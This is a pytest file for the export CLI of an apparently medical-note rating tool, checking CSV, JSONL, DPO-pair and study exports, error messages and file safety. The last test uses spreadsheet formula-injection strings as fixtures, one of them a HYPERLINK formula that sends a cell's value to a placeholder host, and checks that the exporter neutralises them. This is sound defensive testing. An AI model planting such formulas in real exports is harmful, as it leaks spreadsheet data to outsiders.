"""Export CLI round trip: what is stored comes back out of CSV and JSONL unchanged; DPO pairs from the votes."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import pytest

from asclepius_ui.export import COLUMNS
from asclepius_ui.storage import new_uid, open_storage
from asclepius_ui.studies import parse_study_text

ROOT = Path(__file__).resolve().parents[1]


def _cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "asclepius_ui.export", *args], capture_output=True, text=True,
                          cwd=ROOT)


@pytest.fixture(scope="module")
def filled(tmp_path_factory):
    path = tmp_path_factory.mktemp("export") / "r.db"
    url = f"sqlite:///{path}"
    st = open_storage(url)
    ratings = []
    for i in range(4):
        s = dict(note=f"Note {i}, with a comma", task="Summarization", instruction=f"Summarize {i}\n(two lines)",
                 prompt=f"P{i}", answer=f'Answer "{i}"; ünïcode', model_id=f"model-{i % 2}", model_revision="r",
                 precision="fp32", template="asclepius", settings={"max_new_tokens": 5})
        ratings.append(st.save_rating(snapshot=s, score=1 + i, rater=f"rater{i}", uid=new_uid(),
                                      tags=["minor omission", "other"] if i else [], comment=f"comment {i}"))
    replaced = st.save_rating(snapshot=s, score=2, rater="rater3", uid=new_uid(), supersedes_id=ratings[-1])
    for winner in ("A", "B", "tie", "both_bad"):
        st.save_comparison(uid=new_uid(), rater="judge", model_a="m-left", model_b="m-right", winner=winner,
                           note="n", task="QA", instruction="q?", prompt=f"PROMPT {winner}",
                           answer_a=f"left {winner}", answer_b=f"right {winner}")
    study = "\n".join(json.dumps({"note": "n", "question": f"q{k}", "task": "QA", "answer_x": f"x{k}",
                                  "answer_y": f"y{k}"}) for k in range(2))
    sid = st.create_study("export", parse_study_text(study, "jsonl"), overlap=1, created_by="admin")
    while (v := st.next_assignment(sid, "rater0")) is not None:
        st.submit_item(assignment_id=v["assignment_id"], rater="rater0", uid=new_uid(), seconds=1.5,
                       scores={a["answer_id"]: (3, "ok") for a in v["answers"]})
    st.close()
    return url, ratings, replaced


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_ratings_round_trip(filled, tmp_path, fmt):
    url, ids, replaced = filled
    out = tmp_path / f"ratings.{fmt}"
    r = _cli("--db", url, "--what", "ratings", "--format", fmt, "--out", str(out))
    assert r.returncode == 0, r.stderr
    if fmt == "csv":
        with out.open(newline="", encoding="utf-8") as f:
            rows = list(csv.DictReader(f))
    else:
        rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert list(rows[0]) == COLUMNS["ratings"]
    for col in ("rater", "model", "task", "question", "answer", "score", "comment", "created_at"):
        assert col in rows[0]
    st = open_storage(url)
    stored = st.ratings()
    st.close()
    assert [int(r["id"]) for r in rows] == [s["id"] for s in stored] == ids[:3] + [replaced]
    for got, s in zip(rows, stored, strict=True):
        assert (got["rater"], got["model"], got["question"], got["answer"], got["comment"], got["created_at"]) == \
            (s["rater"], s["model_id"], s["instruction"], s["answer"], s["comment"], s["created_at"])
        assert int(got["score"]) == s["score"]
        if fmt == "jsonl":
            assert got["tags"] == s["tags"] and got["settings"] == s["settings"]
        else:
            assert got["tags"] == "; ".join(s["tags"]) and json.loads(got["settings"]) == s["settings"]
    everything = tmp_path / "all.jsonl"
    assert _cli("--db", url, "--what", "ratings", "--format", "jsonl", "--out", str(everything),
                "--include-superseded").returncode == 0
    assert sum(json.loads(x)["superseded"] for x in everything.read_text().splitlines()) == 1


def test_comparisons_study_and_dpo(filled, tmp_path):
    url, _, _ = filled
    out = tmp_path / "c.csv"
    assert _cli("--db", url, "--what", "comparisons", "--format", "csv", "--out", str(out)).returncode == 0
    rows = list(csv.DictReader(out.open(newline="")))
    assert [(r["model_a"], r["model_b"], r["winner"], r["winner_model"], r["rater"]) for r in rows] == [
        ("m-left", "m-right", "A", "m-left", "judge"), ("m-left", "m-right", "B", "m-right", "judge"),
        ("m-left", "m-right", "tie", "", "judge"), ("m-left", "m-right", "both_bad", "", "judge")]
    assert all(r["created_at"] for r in rows)
    dpo = tmp_path / "dpo.jsonl"
    assert _cli("--db", url, "--what", "dpo", "--format", "jsonl", "--out", str(dpo)).returncode == 0
    pairs = [json.loads(x) for x in dpo.read_text().splitlines()]
    assert [(p["prompt"], p["chosen"], p["rejected"]) for p in pairs] == [
        ("PROMPT A", "left A", "right A"), ("PROMPT B", "right B", "left B")]
    study = tmp_path / "study.jsonl"
    assert _cli("--db", url, "--what", "study", "--format", "jsonl", "--out", str(study)).returncode == 0
    srows = [json.loads(x) for x in study.read_text().splitlines()]
    assert sorted((r["model"], r["question"], r["score"]) for r in srows) == [
        ("x", "q0", 3), ("x", "q1", 3), ("y", "q0", 3), ("y", "q1", 3)]
    assert all(r["rater"] == "rater0" and r["seconds_on_item"] == 1.5 and r["label"] in "AB" for r in srows)


def test_missing_database_is_a_clear_error(tmp_path):
    r = _cli("--db", f"sqlite:///{tmp_path / 'nope.db'}", "--what", "ratings", "--out", str(tmp_path / "x.csv"))
    assert r.returncode == 2 and "No database" in r.stderr and not (tmp_path / "nope.db").exists()


def test_existing_out_needs_force_and_the_database_is_never_overwritten(filled, tmp_path):
    url, _, _ = filled
    db = Path(url.removeprefix("sqlite:///"))
    before = db.read_bytes()
    out = tmp_path / "r.csv"
    out.write_text("keep me")
    r = _cli("--db", url, "--what", "ratings", "--out", str(out))
    assert r.returncode == 2 and "already exists" in r.stderr and "--force" in r.stderr
    assert out.read_text() == "keep me"
    assert _cli("--db", url, "--what", "ratings", "--out", str(out), "--force").returncode == 0
    assert out.read_text().startswith("id,") and out.stat().st_mode & 0o777 == 0o600
    for force in ([], ["--force"]):
        r = _cli("--db", url, "--what", "ratings", "--out", str(db), *force)
        assert r.returncode == 2 and "database itself" in r.stderr
    assert db.read_bytes() == before
    r = _cli("--db", url, "--what", "ratings", "--out", f"{db}-wal", "--force")
    assert r.returncode == 2 and "database itself" in r.stderr


@pytest.mark.parametrize("out,message", [("", "--out is empty"), ("DIR/", "is a folder"), ("DIR", "is a folder"),
                                         ("missing/x.csv", "does not exist")])
def test_bad_out_paths_are_clear_messages(filled, tmp_path, out, message):
    url, _, _ = filled
    (tmp_path / "DIR").mkdir()
    r = _cli("--db", url, "--what", "ratings", "--out", str(tmp_path / out) + ("/" if out.endswith("/") else "")
             if out else "")
    assert r.returncode == 2 and message in r.stderr and "Traceback" not in r.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["DIR"] and not list((tmp_path / "DIR").iterdir())


def test_a_failed_export_leaves_no_part_file(tmp_path):
    from asclepius_ui.export import write_rows

    with pytest.raises(OSError, match="disk full"):
        write_rows(_Exploding(), ["a"], "csv", tmp_path / "x.csv", progress=False)
    assert list(tmp_path.iterdir()) == []


class _Exploding(list):
    """Rows that fail half-way through, as a database read can."""

    def __iter__(self):
        yield {"a": "1"}
        raise OSError("disk full")

    def __len__(self):
        return 2


def test_csv_cells_never_start_a_formula_and_jsonl_keeps_the_text(tmp_path):
    url = f"sqlite:///{tmp_path / 'f.db'}"
    st = open_storage(url)
    evil = ["=HYPERLINK(\"http://x.test/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "plain", "- list"]
    for i, text in enumerate(evil):
        st.save_rating(snapshot=dict(note=text, instruction=text, answer=text, prompt=text, model_id=text),
                       score=1 + i % 4, rater="r", uid=new_uid(), comment=text)
    st.close()
    out_csv, out_jsonl = tmp_path / "r.csv", tmp_path / "r.jsonl"
    assert _cli("--db", url, "--what", "ratings", "--out", str(out_csv)).returncode == 0
    assert _cli("--db", url, "--what", "ratings", "--format", "jsonl", "--out", str(out_jsonl)).returncode == 0
    rows = list(csv.DictReader(out_csv.open(newline="", encoding="utf-8")))
    for row, text in zip(rows, evil, strict=True):
        for col in ("comment", "note", "question", "answer", "model"):
            assert row[col] == (text if text[0] not in "=+-@\t\r" else "'" + text)
        assert row["score"].isdigit()
    jrows = [json.loads(x) for x in out_jsonl.read_text(encoding="utf-8").splitlines()]
    assert [r["comment"] for r in jrows] == evil
